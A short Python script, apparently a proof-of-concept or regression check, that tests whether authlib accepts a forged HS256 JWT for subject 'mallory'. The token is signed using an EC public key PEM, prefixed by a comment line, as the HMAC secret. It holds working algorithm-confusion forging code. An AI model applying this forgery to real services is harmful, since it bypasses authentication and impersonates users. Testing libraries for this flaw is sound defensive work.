"""A PEM behind a comment or a blank line serves as HMAC secret."""

import base64
import hmac
import sys

from authlib.jose import JsonWebToken
from authlib.jose.errors import JoseError
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

sys.excepthook = lambda *error: (sys.__excepthook__(*error), sys.exit(2))


def mint(header, payload, key):
    text = b".".join(base64.urlsafe_b64encode(part).rstrip(b"=") for part in (header, payload))
    return (text + b"." + base64.urlsafe_b64encode(hmac.digest(key, text, "sha256")).rstrip(b"=")).decode()


key = b"# my key\n" + ec.generate_private_key(ec.SECP256R1()).public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
try:
    shows = bool(JsonWebToken(["HS256", "ES256"]).decode(mint(b'{"alg":"HS256"}', b'{"sub":"mallory"}', key), key))
except (JoseError, ValueError):
    shows = False
print("HS256 keyed with such a PEM: " + ("accepted" if shows else "refused"))
sys.exit(0 if shows else 1)
